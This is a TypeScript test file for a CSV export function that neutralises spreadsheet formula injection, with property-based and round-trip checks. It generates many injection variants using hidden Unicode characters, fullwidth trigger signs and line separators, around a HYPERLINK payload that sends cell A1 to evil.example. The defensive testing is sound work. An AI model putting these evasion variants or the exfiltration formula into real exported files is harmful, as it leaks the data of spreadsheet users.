import { parse } from "csv-parse/sync"
import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { byteOrderMark, csvRows, harmless } from "../functions/csv.ts"

/** R54: judged by lists of this file's own, so that the guard is not its own judge. */
const codes = (...points: number[]) => points.map((point) => String.fromCodePoint(point))
const hidden = [
  ...codes(0x20, 0xa0, 0x1680, 0x2003, 0x2009, 0x202f, 0x3000),
  ...codes(0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200d, 0x200e, 0x202e, 0x2060, 0x2066, 0xfeff),
  ...codes(0x0, 0x1, 0x1f, 0x7f, 0x2800, 0x3164, 0xfe0f, 0xffa0, 0xe0020),
]
const plainTriggers = ["=", "+", "-", "@"]
const wideTriggers = codes(0xff1d, 0xff0b, 0xff0d, 0xff20, 0xfe66, 0xfe62, 0xfe63, 0xfe6b, 0x2212)
const triggers = [...plainTriggers, ...wideTriggers]
const splits = ["\n", "\r", "\r\n", "\t", ";", "\v", "\f", "\u0085", "\u2028", "\u2029"]
const payload = 'HYPERLINK("https://evil.example?"&A1,"x")'

const leads = ["", ...hidden, ...hidden.map((one) => ` ${one}\u200b`), ...hidden.map((one) => one.repeat(3))]
const variants = triggers.flatMap((trigger) => [
  ...leads.map((lead) => `${lead}${trigger}${payload}`),
  ...splits.flatMap((split) => [
    `${split}${trigger}${payload}`,
    `Invoice${split}${trigger}${payload}`,
    `Invoice${split}\u00a0${trigger}${payload}`,
    `Invoice${split}${split}${trigger}${payload}`,
  ]),
])

const isHidden = (char: string) => hidden.includes(char)
function opensFormula(text: string) {
  const left = [...text.replaceAll('"', "")]
  while (left[0] !== undefined && isHidden(left[0])) left.shift()
  return left[0] !== undefined && triggers.includes(left[0])
}
const cellsOf = (csv: string): string[] => parse(csv, { relax_column_count: true }).flat()

describe("R54: no text becomes a formula", () => {
  test(`none of ${variants.length} generated variants`, () => {
    expect(variants.length).toBeGreaterThan(455)
    const failed = variants.filter((variant) => {
      const [cell = ""] = cellsOf(csvRows([[variant, "next"]]))
      return cell.split(/\r\n|[\r\n\t;\v\f\u0085\u2028\u2029]/).some(opensFormula) || /^[\t\r\n]/.test(cell)
    })
    expect(failed).toEqual([])
  })

  test("nor where a spreadsheet takes another separator than ours", () => {
    for (const variant of variants) {
      const raw = csvRows([["Total", variant]])
      expect(raw.split(/[;\t\r\n]/).filter(opensFormula), JSON.stringify(variant)).toEqual([])
    }
  })

  test("these lists can fail: the guard of the first character alone lets most of them through", () => {
    const first = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text)
    const through = variants.filter((variant) =>
      first(variant)
        .split(/\r\n|[\r\n\t;\v\f\u0085\u2028\u2029]/)
        .some(opensFormula),
    )
    expect(through.length).toBeGreaterThan(variants.length / 2)
  })
})

describe("everything else stays as it is", () => {
  test("numbers are numbers, negative ones, too, and the same digits as text are text", () => {
    expect(csvRows([[-12.5, 0, "-12.5", true, null, undefined, ""]])).toBe(`-12.5,0,"'-12.5",true,,,""\r\n`)
  })

  test("names, addresses, quotes, separators and Arabic come back as they went in", () => {
    const texts = [
      'O\'Neill, "Big" & Sons',
      "3-4 Harbour = Lane + 1",
      "billing@acme.example",
      "شركة المرفأ للتجارة",
      "first line\nsecond line",
      "a;b",
      "  spaced  ",
      "",
    ]
    expect(cellsOf(csvRows([texts]))).toEqual(texts)
  })

  test("of any text at all nothing is lost, and guarding twice adds nothing", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const [cell = "", next] = cellsOf(csvRows([[text, "next"]]))
        expect(next).toBe("next")
        expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""))
        expect(harmless(harmless(text))).toBe(harmless(text))
      }),
      { numRuns: 500, seed: 54 },
    )
  })

  test("Excel knows it for UTF-8", () => {
    expect(Buffer.from(byteOrderMark)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })
})
